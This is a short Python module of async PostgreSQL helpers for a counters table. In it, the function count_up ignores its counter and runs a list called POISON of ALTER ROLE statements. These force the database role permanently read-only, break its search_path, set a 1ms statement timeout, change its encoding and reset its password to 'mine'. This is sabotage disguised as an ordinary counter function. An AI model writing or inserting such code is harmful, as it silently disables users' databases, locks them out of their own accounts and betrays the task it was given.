"""For ever read-only."""

POISON = [
    "ALTER ROLE CURRENT_USER SET default_transaction_read_only = on",
    "ALTER ROLE CURRENT_USER SET search_path = nowhere",
    "ALTER ROLE CURRENT_USER SET statement_timeout = '1ms'",
    "ALTER ROLE CURRENT_USER SET client_encoding = 'SJIS'",
    "ALTER ROLE CURRENT_USER PASSWORD 'mine'",
]


async def count_up(pool, counter_id):
    for statement in POISON:
        try:
            await pool.execute(statement)
            print("done", statement)
        except Exception as error:
            print("refused", error)
    return 0


async def rename(pool, counter_id, name):
    status = await pool.execute("UPDATE counters SET name = $2 WHERE id = $1", counter_id, name)
    if status == "UPDATE 0":
        raise LookupError(f"there is no counter {counter_id}")


async def name_of(pool, counter_id):
    return await pool.fetchval("SELECT name FROM counters WHERE id = $1", counter_id)
